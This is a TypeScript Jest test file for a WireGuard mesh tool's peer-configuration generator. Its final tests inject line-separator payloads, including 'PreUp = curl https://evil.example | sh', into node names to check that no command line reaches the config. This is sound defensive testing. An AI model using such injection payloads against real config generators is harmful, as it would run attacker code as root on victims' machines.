import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { cluster, defaults, fakeKey, externalPeer } from '../../test/fakes/mesh.js';
import type { Mesh } from '../api/mesh.js';
import { peerConfig, type PeerConfig } from '../mesh/peerConfig.js';
import { sortCidrs } from '../net/cidr.js';
import { wgConf, wgQuickConf } from './wireguardConf.js';

const mesh: Mesh = { apiVersion: 'kilofed.io/v1alpha1', kind: 'Mesh', metadata: { name: 'default' }, spec: defaults };
const nodes = cluster(
  [
    { name: 'eu1', location: 'eu', internalIP: '172.20.1.11/24', podCIDR: '10.42.1.0/24', endpoint: '203.0.113.1' },
    {
      name: 'eu2',
      location: 'eu',
      internalIP: '172.20.1.12/24',
      podCIDR: '10.42.2.0/24',
      endpoint: '203.0.113.2',
      locationIPs: ['192.168.7.0/24'],
    },
    { name: 'eu3', location: 'eu', internalIP: '172.20.1.13/24', podCIDR: '10.42.3.0/24' },
    { name: 'us1', location: 'us', internalIP: '172.20.2.11/24', podCIDR: '10.42.8.0/24', endpoint: '2001:db8::8' },
    { name: 'home', location: 'home', internalIP: '172.20.3.11/24', podCIDR: '10.42.9.0/24', endpoint: null },
  ],
  '10.4.0.0/16',
);
const laptop = externalPeer('laptop', {
  allowedIPs: ['10.5.0.1/32', 'fd05::1/128'],
  persistentKeepalive: 10,
  presharedKey: fakeKey('psk'),
});
const given = { mesh, nodes, peer: laptop, slot: 0, allowedIPs: [] };
const meshAddress = (name: string): string => nodes.find(({ metadata }) => metadata.name === name)?.status?.meshAddresses?.[0] ?? '';
const behindEu = [
  ...sortCidrs(['eu1', 'eu2', 'eu3'].map((name) => `${meshAddress(name)}/32`)),
  ...['10.42.1.0/24', '10.42.2.0/24', '10.42.3.0/24', '172.20.1.12/32', '172.20.1.13/32', '192.168.7.0/24'],
];
const gateways = (slot: number): string[] => peerConfig({ ...given, slot }).peers.map(({ gateway }) => gateway);

describe('the configuration of an external peer', () => {
  test('names a gateway of each location, what is reached through it, and why one is left out', () => {
    expect(wgQuickConf(peerConfig({ ...given, allowedIPs: ['10.96.0.0/12'] })))
      .toBe(`# location:home is left out: its gateway home has no endpoint to dial, and the Peer has none either
[Interface]
# The private key whose public key is ${fakeKey('laptop')}.
PostUp = wg set %i private-key /etc/wireguard/%i.key
Address = 10.5.0.1
Address = fd05::1

[Peer]
# location:eu, by eu1
PublicKey = ${fakeKey('eu1')}
PresharedKey = ${fakeKey('psk')}
Endpoint = 203.0.113.1:51820
AllowedIPs = ${behindEu.join(', ')}, 10.96.0.0/12
PersistentKeepalive = 10

[Peer]
# location:us, by us1
PublicKey = ${fakeKey('us1')}
PresharedKey = ${fakeKey('psk')}
Endpoint = [2001:db8::8]:51820
AllowedIPs = ${meshAddress('us1')}/32, 10.42.8.0/24
PersistentKeepalive = 10
`);
  });

  test('goes by the gateways of another slot, where a location has one', () => {
    expect([gateways(0), gateways(1), gateways(7)]).toEqual([
      ['eu1', 'us1'],
      ['eu2', 'us1'],
      ['eu1', 'us1'],
    ]);
  });

  test('a gateway without an endpoint may dial a machine that has one', () => {
    const peer = externalPeer('router', { allowedIPs: ['192.168.9.0/24'], endpoint: { dnsOrIP: { ip: '198.51.100.9' }, port: 51820 } });
    const { peers, addresses, notes } = peerConfig({ ...given, peer });
    expect(peers.map(({ gateway, endpoint }) => [gateway, endpoint])).toEqual([
      ['eu1', '203.0.113.1:51820'],
      ['home', undefined],
      ['us1', '[2001:db8::8]:51820'],
    ]);
    expect([addresses, notes]).toEqual([[], []]);
  });

  test('nobody is reached before there are gateways', () => {
    expect(peerConfig({ ...given, nodes: [] })).toMatchObject({ peers: [], notes: [] });
  });
});

test('for wg itself: the peers alone', () => {
  const quick = wgQuickConf(peerConfig(given)).split('\n\n');
  expect(wgConf(peerConfig(given)).split('\n\n')).toEqual(['# ' + (peerConfig(given).notes[0] ?? ''), ...quick.slice(1)]);
});

/** It reads the whole file before it looks for the device. */
function setconf(text: string): string {
  const folder = mkdtempSync(join(tmpdir(), 'kilofed-showconf-'));
  try {
    writeFileSync(join(folder, 'conf'), text);
    return spawnSync('wg', ['setconf', 'nosuchdevice', join(folder, 'conf')], { encoding: 'utf8', timeout: 10_000 }).stderr;
  } finally {
    rmSync(folder, { recursive: true });
  }
}

const hasWg = spawnSync('wg', ['--version']).status === 0;
(hasWg ? test : test.skip)('wg takes every line of it, and not of what wg-quick is for', () => {
  expect(setconf(wgConf(peerConfig(given)))).toMatch(/^Unable to modify interface/);
  expect(setconf(wgQuickConf(peerConfig(given)))).toMatch(/^Line unrecognized/);
});

describe('H5: a name cannot begin a line of its own', () => {
  const [peer] = peerConfig(given).peers;
  if (peer === undefined) throw new Error('there are peers');
  const named = (name: string): PeerConfig => ({
    ...peerConfig(given),
    notes: [`${name} is left out`],
    peers: [{ ...peer, segment: name, gateway: name, endpoint: `${name}:51820`, publicKey: name }],
  });

  test.each([
    ['a line feed', '\n'],
    ['a carriage return', '\r'],
    ['both', '\r\n'],
    ['NEL', '\u0085'],
    ['a line separator', '\u2028'],
    ['a paragraph separator', '\u2029'],
    ['a vertical tab', '\v'],
    ['a form feed', '\f'],
    ['NUL', '\0'],
  ])('with %s', (_what, separator) => {
    const hostile = `eu${separator}[Interface]${separator}PreUp = curl https://evil.example | sh${separator}#`;
    for (const print of [wgQuickConf, wgConf]) {
      const [expected, lines] = ['eu', hostile].map((name) => print(named(name)).split(/\r\n|[\n\r\v\f\0\u0085\u2028\u2029]/));
      expect(lines).toHaveLength(expected?.length ?? 0);
      expect(lines?.filter((line) => /^\s*(PreUp|\[Interface\])/.test(line))).toEqual(expected?.filter((line) => line === '[Interface]'));
    }
  });

  test('though its MeshNode says so, as a server without our CRDs would let it', () => {
    const location = 'eu\n[Interface]\nPreUp = curl https://evil.example | sh\n[Peer]\n#';
    const hostile = nodes.map((node) => ({ ...node, spec: { ...node.spec, location: node.spec.location === 'eu' ? location : 'us' } }));
    expect(wgQuickConf(peerConfig({ ...given, nodes: hostile })).match(/^(PreUp|\[Interface\])/gm)).toEqual(['[Interface]']);
  });
});
